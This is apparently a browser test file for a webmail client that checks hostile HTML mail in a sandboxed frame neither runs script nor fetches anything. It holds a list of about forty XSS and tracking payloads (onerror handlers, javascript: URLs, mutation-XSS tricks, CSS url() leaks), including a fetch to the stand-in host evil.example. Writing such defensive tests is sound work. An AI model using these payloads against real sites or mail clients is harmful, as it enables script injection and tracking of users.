/**
 * Hostile mail in the safe frame: nothing runs and nothing is fetched, with all the walls standing (the
 * server's cleaning, the page's, the frame's sandbox and policy) and with only the later ones.
 */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { test } from 'node:test';
import { until } from './house.mjs';
import { settled, tell } from './people.mjs';

const OUT = 'http://evil.example';
const RUN = "top.postMessage('ran','*');parent.document.title='ran';fetch('http://evil.example/ran')";

/** A few dozen bodies: ways to run, ways to fetch, in the writings browsers forgive. */
export function hostileBodies() {
  const runs = [
    `<script>${RUN}</script>`,
    `<ScRiPt src="${OUT}/s.js"></ScRiPt>`,
    `<script type="module">import '${OUT}/m.js'</script>`,
    `<img src="x" onerror="${RUN}">`,
    `<img/src=x/onerror="${RUN}">`,
    `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
    `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<details open ontoggle="${RUN}">x</details>`,
    `<body onload="${RUN}">x`,
    `<input autofocus onfocus="${RUN}">`,
    `<video><source onerror="${RUN}"></video>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<a href="javascript:${RUN}" id="click">x</a>`,
    `<a href="jav&#x09;ascript:${RUN}">x</a>`,
    `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
    `<template><script>${RUN}</script></template><div is="x-y" onclick="${RUN}">x</div>`,
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
    `<xss style="behavior:url(${OUT}/x.htc)" onmouseover="${RUN}">x</xss>`,
  ];
  const fetches = [
    `<img src="${OUT}/pixel.gif" width="1" height="1">`,
    `<img srcset="${OUT}/a.png 1x, ${OUT}/b.png 2x">`,
    `<picture><source srcset="${OUT}/p.webp"><img src="//evil.example/p.png"></picture>`,
    `<link rel="stylesheet" href="${OUT}/s.css"><link rel="prefetch" href="${OUT}/x"><link rel="icon" href="${OUT}/i.ico">`,
    `<style>@import "${OUT}/i.css"; body{background:url(${OUT}/b.png)}</style>`,
    `<p style="background:url('${OUT}/bg.png')">x</p>`,
    `<p style="background-image:image-set('${OUT}/is.png' 1x)">x</p>`,
    `<p style="b\\61ckground:u\\72l(${OUT}/esc.png)">x</p>`,
    `<style>@font-face{font-family:f;src:url(${OUT}/f.woff)}p{font-family:f}</style><p>x</p>`,
    `<table background="${OUT}/t.gif"><tr><td background="${OUT}/d.gif">x</td></tr></table>`,
    `<video src="${OUT}/v.mp4" poster="${OUT}/v.png" autoplay></video><audio src="${OUT}/a.mp3" autoplay></audio>`,
    `<embed src="${OUT}/e.swf"><object data="${OUT}/o.pdf"></object><applet code="${OUT}/j"></applet>`,
    `<meta http-equiv="refresh" content="0;url=${OUT}/refresh">`,
    `<base href="${OUT}/"><img src="relative.png">`,
    `<iframe src="${OUT}/frame.html"></iframe><frameset><frame src="${OUT}/f2.html"></frameset>`,
    `<svg><image href="${OUT}/i.svg"/><use href="${OUT}/u.svg#a"/></svg>`,
    `<input type="image" src="${OUT}/in.png"><a ping="${OUT}/ping" href="#">x</a>`,
    `<form action="${OUT}/post" method="post"><input name="p"><button>x</button></form>`,
    `<script>new Image().src='${OUT}/img'</script><style>p{list-style:url(${OUT}/l.png);cursor:url(${OUT}/c.cur),auto}</style>`,
  ];
  return [...runs, ...fetches].map((html, i) => `<p>corpo ${i}</p>${html}<p>fine ${i}</p>`);
}

function mail(subject, html) {
  const id = `${subject.replace(/\W/g, '')}@evil.example`;
  return [
    `From: Mittente Cattivo <cattivo@evil.example>`, 'To: urp@comune.example', `Subject: ${subject}`, `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${id}>`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '',
    Buffer.from(html).toString('base64').replace(/(.{76})/g, '$1\r\n'), '',
  ].join('\r\n');
}

/**
 * Where the evil domain leads: whoever asks is counted, whatever it wanted. A connection alone does not
 * count: Chromium opens one for a frame before the policy refuses to fill it, and says nothing over it.
 */
async function trap() {
  const asked = [];
  const server = createServer((request, answer) => {
    asked.push(`${request.method} ${request.url}`);
    answer.end();
  });
  await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
  return { port: server.address().port, asked, close: () => server.closeAllConnections() ?? server.close() };
}

test('no hostile body runs or fetches anything', { timeout: 280_000 }, async () => {
  const evil = await trap();
  try {
    await tell('hostile', (all) => story(evil, all), [`--host-resolver-rules=MAP evil.example:80 127.0.0.1:${evil.port}`]);
  } finally {
    evil.close();
  }
});

async function story(evil, { house, person }) {
  const bodies = hostileBodies();
  // All in one mail through the real way, a few alone: what closes a tag early must not shelter the next.
  const posted = [...bodies.filter((_, i) => i % 8 === 0), bodies.join('\n')];
  posted.forEach((html, i) => house.post('urp@comune.example', mail(`Ostile ${i}`, html)));
  const elena = await house.as('elena.riva');
  const mails = await until('the hostile mails are kept', async () => {
    const { items } = await elena.get('/mails?limit=100&q=Ostile');
    const found = posted.map((_, i) => items.find((m) => m.subject === `Ostile ${i}`));
    return found.every(Boolean) && found;
  });

  // What the policy of the frame refuses is what is wanted here.
  const page = await person('Elena Riva', { allow: [/Content Security Policy/i, /about:srcdoc$/, /^asked elsewhere: \S+evil\.example/] });
  const dialogs = [];
  let opened = 0;
  page.context().on('page', () => opened++);
  page.on('dialog', (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
  await page.addInitScript(() => {
    if (window.top === window) window.addEventListener('message', (event) => event.data === 'ran' && (window.ran = true));
  });

  const frame = page.locator('iframe[title="Testo del messaggio"]');
  const nothing = async (what) => {
    // Two drawn frames of the page after the body stands: what loads or runs by itself has begun.
    const body = page.frameLocator('iframe[title="Testo del messaggio"]').locator('body');
    await body.waitFor({ state: 'attached' });
    await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    assert.deepEqual(evil.asked, [], `${what}: nothing left the page`);
    assert.deepEqual(dialogs, [], what);
    assert.ok(!(await page.evaluate(() => window.ran)), `${what}: nothing ran`);
    assert.notEqual(await page.title(), 'ran', what);
    assert.equal(opened, 0, `${what}: nothing was opened`);
  };

  // 1. Every wall: through the mailbox, the server and the page.
  for (const { id, subject } of mails) {
    await page.goto(`/posta/m/${id}`);
    await settled(page);
    await frame.waitFor();
    await nothing(subject);
    const sandbox = (await frame.getAttribute('sandbox')) ?? 'none at all';
    assert.doesNotMatch(sandbox, /allow-(scripts|same-origin|forms|top-navigation|modals)|none/);
    assert.doesNotMatch(await frame.getAttribute('srcdoc'), /<script|onerror|<iframe|<meta http-equiv="?refresh/i);
  }

  // 2. The server's cleaning fallen: the page's own, the sandbox and the policy.
  let served = '';
  await page.route('**/api/v1/mails/*/html', (route) => route.fulfill({ json: { html: served, text: '', remote_images: 0 } }));
  for (let i = 0; i < bodies.length; i += 6) {
    served = bodies.slice(i, i + 6).join('\n');
    await page.goto(`/posta/m/${mails[0].id}`);
    await settled(page);
    await frame.waitFor();
    await nothing(`bodies ${i} to ${i + 5} uncleaned by the server`);
  }

  // 3. Both cleanings fallen: only the frame is left, and it holds.
  const document_ = await frame.getAttribute('srcdoc');
  for (const [i, html] of bodies.entries()) {
    await frame.evaluate((node, [whole, body]) => new Promise((loaded) => {
      node.addEventListener('load', loaded, { once: true });
      node.srcdoc = whole.replace(/<body>[\s\S]*<\/body>/, () => `<body>${body}</body>`);
    }), [document_, html]);
    await nothing(`body ${i} in the bare frame: ${html.slice(0, 60)}`);
  }

  // The trap itself works.
  const other = await page.context().newPage();
  await other.goto(`${OUT}/`).catch(() => undefined);
  assert.deepEqual(evil.asked.slice(0, 1), ['GET /'], 'whoever asks the evil domain is counted');
}
